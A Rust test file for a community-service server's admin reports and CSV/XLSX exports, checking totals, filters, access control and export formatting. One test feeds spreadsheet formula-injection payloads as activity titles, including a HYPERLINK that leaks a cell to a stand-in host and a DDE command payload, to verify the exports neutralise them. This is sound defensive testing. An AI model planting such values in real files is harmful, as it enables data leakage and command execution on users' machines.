//! The admin's figures, breakdowns and exports, all under one filter.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use reqwest::StatusCode;
use serde_json::{Value, json};
use uuid::Uuid;

use tongxin_server::demo;

use crate::helpers::{TestApp, error_of, push_body, record, spawn_app};

/// An activity as a device pushes it, at `station` on `date`.
fn activity(station: &str, category: &str, date: &str, people: i64, title: &str) -> Value {
    let mut r = record(people);
    r["station_id"]["value"] = json!(station);
    r["category"]["value"] = json!(category);
    r["date"]["value"] = json!(date);
    r["title"]["value"] = json!(title);
    r
}

/// Six activities over three streets, three categories and two months,
/// plus one deleted activity that no figure may count.
async fn seeded() -> TestApp {
    let app = spawn_app().await;
    let rows = [
        activity(
            "st-xianfeng",
            "health_clinic",
            "2026-10-03",
            120,
            "先锋义诊",
        ),
        activity(
            "st-hongshiliu",
            "elder_care",
            "2026-10-20",
            30,
            "红石榴敬老",
        ),
        activity(
            "st-xianfeng",
            "legal_consultation",
            "2026-11-02",
            15,
            "法律咨询角",
        ),
        activity(
            "st-shangrong",
            "health_clinic",
            "2026-11-05",
            80,
            "尚荣义诊",
        ),
        activity("st-dazhi", "elder_care", "2026-11-09", 25, "大智敬老"),
        activity("st-dazhi", "health_clinic", "2026-11-12", 60, "大智义诊"),
    ];
    let mut gone = activity("st-dazhi", "health_clinic", "2026-11-13", 999, "已删除的");
    gone["deleted"]["value"] = json!(true);
    let mut mutations: Vec<(u64, Value)> = rows
        .into_iter()
        .enumerate()
        .map(|(i, r)| (i as u64 + 1, r))
        .collect();
    mutations.push((7, gone));
    let response = app
        .push_as(&app.admin_token, &push_body(Uuid::now_v7(), &mutations))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    app
}

async fn admin_get(app: &TestApp, path: &str) -> reqwest::Response {
    app.get_raw(Some(&app.admin_token), path).await
}

fn row<'a>(rows: &'a Value, key: &str) -> &'a Value {
    rows.as_array()
        .unwrap()
        .iter()
        .find(|r| r["key"] == key)
        .unwrap_or_else(|| panic!("no row {key} in {rows}"))
}

#[tokio::test]
async fn the_report_breaks_the_figures_down_and_every_breakdown_adds_up() {
    let app = seeded().await;
    let report = app.get_as(&app.admin_token, "/api/admin/report").await;
    let summary = &report["summary"];
    assert_eq!(summary["activities"], 6);
    assert_eq!(summary["people_served"], 330);
    assert_eq!(summary["active_stations"], 4);
    for breakdown in ["by_street", "by_station", "by_category", "by_month"] {
        let rows = report[breakdown].as_array().unwrap();
        let people: u64 = rows
            .iter()
            .map(|r| r["people_served"].as_u64().unwrap())
            .sum();
        let count: u64 = rows.iter().map(|r| r["activities"].as_u64().unwrap()).sum();
        assert_eq!((count, people), (6, 330), "{breakdown}");
    }
    assert_eq!(
        row(&report["by_street"], "塔子湖街道")["people_served"],
        165
    );
    assert_eq!(
        row(&report["by_station"], "st-dazhi")["label"],
        "大智街道统战联络站"
    );
    assert_eq!(
        row(&report["by_category"], "health_clinic")["people_served"],
        260
    );
    assert_eq!(row(&report["by_month"], "2026-10")["activities"], 2);
    assert_eq!(row(&report["by_month"], "2026-11")["people_served"], 180);
}

#[tokio::test]
async fn a_filter_applies_to_every_figure_and_list() {
    let app = seeded().await;
    let query =
        "street=%E5%A1%94%E5%AD%90%E6%B9%96%E8%A1%97%E9%81%93&from=2026-10-01&to=2026-10-31";
    let report = app
        .get_as(&app.admin_token, &format!("/api/admin/report?{query}"))
        .await;
    assert_eq!(report["filter"]["street"], "塔子湖街道");
    assert_eq!(report["summary"]["activities"], 2);
    assert_eq!(report["summary"]["people_served"], 150);
    assert_eq!(report["by_month"].as_array().unwrap().len(), 1);
    let list = app
        .get_as(&app.admin_token, &format!("/api/admin/activities?{query}"))
        .await;
    let titles: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["activity"]["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["红石榴敬老", "先锋义诊"]);
    let clinics = app
        .get_as(
            &app.admin_token,
            "/api/admin/summary?category=health_clinic",
        )
        .await;
    assert_eq!(clinics["people_served"], 260);
}

#[tokio::test]
async fn a_bad_filter_is_refused_with_its_reason() {
    let app = seeded().await;
    for (query, expected) in [
        ("from=2026-11-01&to=2026-10-01", "end date is before"),
        ("category=picnic", "no category with code \"picnic\""),
        ("from=yesterday", "input contains invalid characters"),
    ] {
        let (status, error) =
            error_of(admin_get(&app, &format!("/api/admin/report?{query}")).await).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        assert!(error.contains(expected), "{query}: {error}");
    }
}

#[tokio::test]
async fn only_admins_see_figures_and_exports() {
    let app = seeded().await;
    for path in [
        "/api/admin/report",
        "/api/admin/export/activities.csv",
        "/api/admin/export/activities.xlsx",
    ] {
        let response = app.get_raw(Some(&app.volunteer_token), path).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{path}");
        let response = app.get_raw(None, path).await;
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{path}");
    }
}

#[tokio::test]
async fn the_csv_export_opens_in_excel_with_chinese_headers_and_the_filtered_rows() {
    let app = seeded().await;
    let response = admin_get(&app, "/api/admin/export/activities.csv?category=elder_care").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("activities.csv")
    );
    let bytes = response.bytes().await.unwrap();
    assert!(
        bytes.starts_with(b"\xEF\xBB\xBF"),
        "a UTF-8 byte-order mark"
    );
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "日期");
    assert_eq!(&headers[1], "时间");
    assert_eq!(&headers[7], "组织单位");
    assert_eq!(&headers[9], "惠及人次");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let titles: Vec<&str> = rows.iter().map(|r| &r[2]).collect();
    assert_eq!(titles, ["大智敬老", "红石榴敬老"]);
    assert_eq!(&rows[0][1], "09:30");
    assert_eq!(&rows[0][3], "敬老助老");
    assert_eq!(&rows[0][5], "大智街道");
    assert_eq!(&rows[0][7], "同心律师服务团");
    assert_eq!(&rows[0][9], "25");
}

#[tokio::test]
async fn the_xlsx_export_has_chinese_headers_real_dates_and_numbers() {
    let app = seeded().await;
    let response = admin_get(&app, "/api/admin/export/activities.xlsx").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .contains("spreadsheetml")
    );
    let bytes = response.bytes().await.unwrap();
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let sheet = workbook.worksheet_range("活动").unwrap();
    assert_eq!(
        sheet.height(),
        7,
        "a header row and six activities, no deleted one"
    );
    assert_eq!(sheet.get((0, 0)), Some(&Data::String("日期".into())));
    assert_eq!(sheet.get((0, 9)), Some(&Data::String("惠及人次".into())));
    // Newest first; the date is a date cell, the count a number.
    match sheet.get((1, 0)) {
        Some(Data::DateTime(date)) => {
            assert_eq!(date.as_datetime().unwrap().date().to_string(), "2026-11-12")
        }
        other => panic!("not a date cell: {other:?}"),
    }
    assert_eq!(sheet.get((1, 1)), Some(&Data::String("09:30".into())));
    assert_eq!(sheet.get((1, 2)), Some(&Data::String("大智义诊".into())));
    assert_eq!(sheet.get((1, 9)), Some(&Data::Float(60.0)));
    let total: f64 = (1..7)
        .map(|r| match sheet.get((r, 9)) {
            Some(Data::Float(n)) => *n,
            other => panic!("not a number: {other:?}"),
        })
        .sum();
    assert_eq!(total, 330.0);
}

/// The figures, computed here from every record the server holds.
fn expected_by(records: &[Value], key: impl Fn(&Value) -> String) -> Vec<(String, u64, u64)> {
    let mut sums: std::collections::BTreeMap<String, (u64, u64)> = Default::default();
    for r in records.iter().filter(|r| r["deleted"]["value"] == false) {
        let entry = sums.entry(key(r)).or_default();
        entry.0 += 1;
        entry.1 += r["people_served"]["value"].as_u64().unwrap();
    }
    sums.into_iter().map(|(k, (n, p))| (k, n, p)).collect()
}

fn reported(rows: &Value) -> Vec<(String, u64, u64)> {
    rows.as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["key"].as_str().unwrap().to_owned(),
                r["activities"].as_u64().unwrap(),
                r["people_served"].as_u64().unwrap(),
            )
        })
        .collect()
}

#[tokio::test]
async fn the_running_totals_follow_edits_moves_deletes_and_late_stale_edits() {
    let app = spawn_app().await;
    let stations = ["st-xianfeng", "st-shangrong", "st-dazhi", "st-hongshiliu"];
    let categories = ["health_clinic", "elder_care", "legal_consultation"];
    let originals: Vec<Value> = (0..24)
        .map(|i| {
            activity(
                stations[i % 4],
                categories[i % 3],
                &format!("2026-{:02}-{:02}", 1 + i % 5, 1 + i),
                (i * 7 % 50) as i64,
                &format!("记录 {i}"),
            )
        })
        .collect();
    let device = Uuid::now_v7();
    let first: Vec<(u64, Value)> = originals
        .iter()
        .cloned()
        .enumerate()
        .map(|(i, r)| (i as u64 + 1, r))
        .collect();
    app.push_as(&app.admin_token, &push_body(device, &first))
        .await;

    // Later edits, each stamped after the originals.
    let later = |r: &Value, field: &str, value: Value, ms: i64| {
        let mut edit = r.clone();
        edit[field] = json!({ "value": value, "stamp": crate::helpers::stamp(device, ms) });
        edit
    };
    let edits = vec![
        (
            25,
            later(&originals[0], "station_id", json!("st-dazhi"), 1_000),
        ),
        (26, later(&originals[1], "date", json!("2026-09-09"), 1_000)),
        (
            27,
            later(&originals[2], "category", json!("elder_care"), 1_000),
        ),
        (28, later(&originals[3], "people_served", json!(44), 1_000)),
        (29, later(&originals[4], "deleted", json!(true), 1_000)),
        (30, later(&originals[5], "deleted", json!(true), 1_000)),
    ];
    app.push_as(&app.admin_token, &push_body(device, &edits))
        .await;
    // Record 5 comes back (undo), and a stale edit of record 3, stamped
    // before the one above, arrives late from another phone and must lose.
    let other = Uuid::now_v7();
    let undo = later(&edits[5].1, "deleted", json!(false), 2_000);
    let mut stale = originals[3].clone();
    stale["people_served"] = json!({ "value": 1, "stamp": crate::helpers::stamp(other, 500) });
    app.push_as(&app.admin_token, &push_body(device, &[(31, undo)]))
        .await;
    app.push_as(&app.admin_token, &push_body(other, &[(1, stale)]))
        .await;

    let records = app.pull_all_as(&app.admin_token).await;
    let report = app.get_as(&app.admin_token, "/api/admin/report").await;
    let street_of = |station: &str| {
        demo::stations()
            .into_iter()
            .find(|s| s.id == station)
            .unwrap()
            .street
    };
    assert_eq!(
        reported(&report["by_category"]),
        expected_by(&records, |r| r["category"]["value"]
            .as_str()
            .unwrap()
            .to_owned())
    );
    assert_eq!(
        reported(&report["by_station"]),
        expected_by(&records, |r| r["station_id"]["value"]
            .as_str()
            .unwrap()
            .to_owned())
    );
    assert_eq!(
        reported(&report["by_street"]),
        expected_by(&records, |r| street_of(
            r["station_id"]["value"].as_str().unwrap()
        ))
    );
    assert_eq!(
        reported(&report["by_month"]),
        expected_by(&records, |r| r["date"]["value"].as_str().unwrap()[..7]
            .to_owned())
    );
    assert_eq!(report["summary"]["activities"], 23);
    let record_3 = records
        .iter()
        .find(|r| r["id"] == originals[3]["id"])
        .unwrap();
    assert_eq!(record_3["people_served"]["value"], 44);
}

#[tokio::test]
async fn a_title_that_looks_like_a_formula_is_shown_and_never_run_in_either_export() {
    let app = spawn_app().await;
    let formulas = [
        r#"=HYPERLINK("http://example.invalid/?"&A2,"y")"#,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ];
    let rows: Vec<(u64, Value)> = formulas
        .iter()
        .enumerate()
        .map(|(i, title)| {
            let mut row = activity("st-xianfeng", "health_clinic", "2026-10-03", 1, title);
            row["organising_group"]["value"] = json!("=1+1");
            (i as u64 + 1, row)
        })
        .collect();
    app.push_as(&app.admin_token, &push_body(Uuid::now_v7(), &rows))
        .await;

    let bytes = admin_get(&app, "/api/admin/export/activities.csv")
        .await
        .bytes()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let mut titles: Vec<String> = Vec::new();
    for row in reader.records().map(Result::unwrap) {
        titles.push(row[2].to_owned());
        assert_eq!(&row[7], "'=1+1");
        assert_eq!(
            &row[0], "2026-10-03",
            "the server's own cells are untouched"
        );
    }
    titles.sort();
    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(titles, expected);

    // The XLSX holds them as text cells, not formulas, exactly as typed.
    let bytes = admin_get(&app, "/api/admin/export/activities.xlsx")
        .await
        .bytes()
        .await
        .unwrap();
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let formulas_in_sheet = workbook.worksheet_formula("活动").unwrap();
    assert!(
        formulas_in_sheet.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell of the sheet is a formula"
    );
    let sheet = workbook.worksheet_range("活动").unwrap();
    let mut titles: Vec<String> = (1..sheet.height())
        .map(|r| match sheet.get((r, 2)) {
            Some(Data::String(text)) => text.clone(),
            other => panic!("not a text cell: {other:?}"),
        })
        .collect();
    titles.sort();
    let mut typed: Vec<String> = formulas.iter().map(|f| (*f).to_owned()).collect();
    typed.sort();
    assert_eq!(titles, typed);
}
